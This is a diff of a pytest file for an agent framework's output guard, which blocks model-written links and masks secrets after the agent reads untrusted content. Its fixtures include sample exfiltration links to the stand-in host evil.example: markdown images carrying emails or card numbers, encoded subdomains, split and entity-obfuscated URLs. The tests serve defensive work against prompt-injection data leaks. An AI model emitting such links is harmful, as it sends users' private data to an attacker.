@@ -11,7 +11,19 @@ from base64 import b32encode, b64encode, urlsafe_b64encode
 import pytest
 from pydantic import BaseModel
 
-from agentfsm import Agent, Limits, MisuseError, Outcome, RunNotFoundError, State, StopReason, ask_user, tool
+from agentfsm import (
+    Agent,
+    Limits,
+    MisuseError,
+    ModelRetry,
+    Outcome,
+    OutcomeUnknownError,
+    RunNotFoundError,
+    State,
+    StopReason,
+    ask_user,
+    tool,
+)
 from agentfsm.core import events as e
 from agentfsm.core.header import Header
 from agentfsm.core.hosted_tools import WebSearch
@@ -143,6 +155,25 @@ async def test_a_stream_has_the_text_after_the_decision(store):
         ]
 
 
+async def test_a_stream_has_no_half_of_an_address(store):
+    """Neither the pieces of a stream nor the answer have an address that a later piece completes."""
+
+    class Composing(Model):
+        name = "composing"
+
+        async def reply(self, request: Request, emit=None) -> Reply:
+            if not results_of(request.messages):
+                return await ScriptedModel(say("", call("read_page"))).reply(request, emit)
+            pieces = "Look: ![x](htt", "ps:/", "/evil.example/a", ") and [b][", "1]\n\n[1]: //evil.ex", "ample"
+            for piece in pieces if emit is not None else ():
+                emit(TextChunk(text=piece))
+            return Reply(text="".join(pieces))
+
+    async with Agent(Composing(), tools=[read_page], store=store, guards=[exit_filter()]).stream("go") as stream:
+        texts = [event.text async for event in stream if isinstance(event, TextDelta)]
+    assert texts == [f"Look: ![x] {LINK_MARK} and [b][1]\n\n{LINK_MARK}\n"]
+
+
 async def test_tokens_can_be_turned_back(store):
     """The same data has one token in a run; only the vault of the run reads it, and secrets have none."""
     vault = Vault(Vault.create_key())
@@ -179,6 +210,38 @@ async def test_arguments_with_secrets_do_not_leave(store):
     assert not any(KEY in f"{each.reason}{each.rule}" for each in decided)
 
 
+DSN = "postgresql://app:hunter2@db.internal/orders"
+
+
+@pytest.mark.parametrize(
+    "error",
+    [
+        ValueError(f"cannot connect to {DSN}"),
+        ConnectionRefusedError(f"{DSN} refused: host=db password=hunter2 user=app"),
+        ExceptionGroup("two", [OSError(DSN), ValueError(f"the key {KEY} is not valid")]),
+        OutcomeUnknownError(f"{DSN} was lost with {KEY}"),
+        ModelRetry(f"{KEY} is not for this account of {DSN}"),
+        ValueError("x" * 1975 + DSN),
+    ],
+)
+async def test_an_error_of_a_tool_leaves_without_secrets(error, store):
+    """Neither the model nor the journal gets a password in a connection string, or a known secret; the rest stays."""
+
+    @tool(read_only=True)
+    async def look_up() -> str:
+        """Look up orders."""
+        raise error
+
+    once = Limits(retries_per_tool=0)
+    agent = agent_of(store, say("", call("look_up")), "done", tools=[look_up], limits=once)
+    run = await agent.run("go")
+    told = f"{everything_in(run, await agent.history(run.id))} {agent.model.requests[-1].messages}"
+    assert not any(secret in told for secret in ("hunter2", KEY))
+    assert "[SECRET_" in told
+    plain = Agent(ScriptedModel(say("", call("look_up")), "done"), tools=[look_up], store=store, limits=once)
+    assert "hunter2" not in results_of((await plain.run("go")).messages)[0].content  # also without a guard
+
+
 async def test_questions_to_the_user_are_arguments_too(store):
     """A model cannot ask the user a question that has the instructions in it."""
 
@@ -199,9 +262,8 @@ async def test_questions_to_the_user_are_arguments_too(store):
 # Links
 
 LEFT = (
-    "[see](https://docs.example/guide)",
     "https://cdn.example/b?size=2",
-    "![a](https://shop.example/a?id=1)",
+    "链接：https://cdn.example/b?size=2，见上。",
     "![logo](https://img.ok.example/l.png?d=1)",
     "// a comment, and 1//2",
 )
@@ -219,20 +281,41 @@ CUT = (
     "https://c2VjcmV0IGRhdGEgb2YgYW5u.evil.example/",
     "HTTPS://EVIL.EXAMPLE/?a",
     "https://cdn.example/b?size=23",
+    "https://evil.example",
+    "[click](https://evil.example/guide)",
+    "![a](https://cdn.example/b?size=2)",  # read, but pictures are loaded one after the other, and spell any text
 )
 
 
 @pytest.mark.parametrize("text", [*LEFT, *CUT])
 async def test_links_that_the_model_composed(text, store):
-    """After untrusted content, a link with data leads to hosts of the list only, or is one that the run has read."""
-    guards = [exit_filter(hosts=["*.ok.example"], kinds=[], canary=False)]
+    """After untrusted content, an address leads to hosts of the list only, or is a link that the run has read."""
+    guards = [exit_filter(allow_hosts=["*.ok.example"], kinds=[], canary=False)]
     run = await agent_of(store, say("", call("read_page")), text, guards=guards).run("go")
     assert (LINK_MARK in run.output) == (text in CUT)
     assert ("evil" not in run.output.casefold()) if text in CUT else (run.output == text)
     trusted = await agent_of(store, text, guards=guards).run("go")
     assert trusted.output == text
-    off = [exit_filter(hosts=None, kinds=[], canary=False)]
+    off = [exit_filter(allow_hosts=None, kinds=[], canary=False)]
     assert (await agent_of(store, say("", call("read_page")), text, guards=off).run("go")).output == text
+
+
+@pytest.mark.parametrize(
+    ("text", "left"),
+    [
+        ("see ![x](&#104;ttps://ok.example/a) and\n\n> ![a\n> b](//evil.example)\n\nend", "/a) and\n\n{}\n\nend"),
+        ("a https&#58;//evil.example/p\n\nend", "{}\n\nend"),
+        ('{"a": ["[b](https://evil.example)"], "![c](//evil.example)": 1}', '{{"a": ["[b] {0}"], "![c] {0}": 1}}'),
+        ("[" * 10_001, "{}"),
+    ],
+)
+def test_what_takes_the_place_of_an_address(text, left):
+    """A block is replaced whole if the place cannot be told, a text if it cannot be read in time; the rest stays."""
+    header = Header(id="r1", prompt=(), created_at=0.0)
+    outgoing = OutgoingText(text=text, labels=frozenset({"untrusted"}), messages=(), hosted=None, header=header)
+    filtered = exit_filter(allow_hosts="ok.example").filter_text(outgoing)
+    assert filtered.text.endswith(left.format(LINK_MARK)), filtered.text
+    assert "evil" not in filtered.text
 
 
 class Searching(Model):
@@ -280,18 +363,15 @@ async def read_mail() -> str:
         # Neither asked for nor typed.
         ("Summarise my emails.", "ann@example.com", "[EMAIL_REDACTED]"),
         ("Write to ann@example.com", "bob@example.com, Joann@example.com", "[EMAIL_REDACTED], [EMAIL_REDACTED]"),
-        ("Read my mail.", f"{RESET} {CARD}", "https://shop.example/reset?[SECRET_REDACTED] [BANK_CARD_REDACTED]"),
+        ("Read my mail.", f"{RESET} {CARD}", f"{LINK_MARK} [BANK_CARD_REDACTED]"),
         ("What is her card number?", CARD, "[BANK_CARD_REDACTED]"),
         ("Give me the link and the password.", "password: a1B2c3D4e5", "[SECRET_REDACTED]"),
         # A link that the model has composed carries nothing, whatever was asked for or typed.
-        (
-            "Give me the link.",
-            "https://shop.example/reset?token=a1B2c3D4e6",
-            "https://shop.example/reset?[SECRET_REDACTED]",
-        ),
-        ("Email addresses?", "![x](https://evil.example/?d=ann@example.com)", f"![x]({LINK_MARK}[EMAIL_REDACTED])"),
-        (f"Is {CARD} valid?", "www.evil.example/4111111111111111", "www.evil.example/[BANK_CARD_REDACTED]"),
-        ("Email addresses?", "ftp://evil.example/ann@example.com", "ftp://evil.example/[EMAIL_REDACTED]"),
+        ("Give me the link.", "https://shop.example/reset?token=a1B2c3D4e6", LINK_MARK),
+        ("Email addresses?", "![x](https://evil.example/?d=ann@example.com)", f"![x] {LINK_MARK}"),
+        (f"Is {CARD} valid?", "www.evil.example/4111111111111111", LINK_MARK),
+        ("Email addresses?", "ftp://evil.example/ann@example.com", LINK_MARK),
+        ("What is on https://evil.example/a?", "![x](https://evil.example/a)", "![x](https://evil.example/a)"),
         (f"My key is {KEY}", f"It is {KEY}", "It is [SECRET_REDACTED]"),
     ],
 )
@@ -348,7 +428,7 @@ class Address(BaseModel):
 
 
 async def test_arguments_are_searched_at_any_depth(store):
-    """Also in models and mappings."""
+    """Also in models, mappings and their names."""
     sent = []
 
     @tool(sends_out=True, idempotent=True)
@@ -357,10 +437,11 @@ async def test_arguments_are_searched_at_any_depth(store):
         sent.append(to)
         return "shipped"
 
-    parcels = [{"street": "Elm 1", "keys": {"gate": gate}} for gate in (KEY, "none")]
+    parcels = [{"street": "Elm 1", "keys": keys} for keys in ({"gate": KEY}, {KEY: "gate"}, {"gate": "none"})]
     agent = agent_of(store, say("", *[call("ship", to=to) for to in parcels]), "done", tools=[ship])
-    first, second = results_of((await agent.run("go")).messages)
-    assert (first.outcome, second.outcome, len(sent)) == (Outcome.FAILED, Outcome.DONE, 1)
+    results = results_of((await agent.run("go")).messages)
+    assert [each.outcome for each in results] == [Outcome.FAILED, Outcome.FAILED, Outcome.DONE]
+    assert len(sent) == 1
 
 
 def test_a_vault_names_the_package_that_it_needs(monkeypatch):
@@ -494,7 +575,7 @@ async def test_each_run_has_a_mark_of_its_own(store):
     fork = await agent.fork(first.id, at=1)
     assert (await agent.replay(first.id)).is_faithful
     assert (await agent.replay(fork.id)).is_faithful
-    twice = agent_of(store, "a", guards=[Guard(exit_filter()), exit_filter(hosts=None)])
+    twice = agent_of(store, "a", guards=[Guard(exit_filter()), exit_filter(allow_hosts=None)])
     await twice.run("go")
     assert twice.model.requests[0].instructions.count("confidential") == 1
 
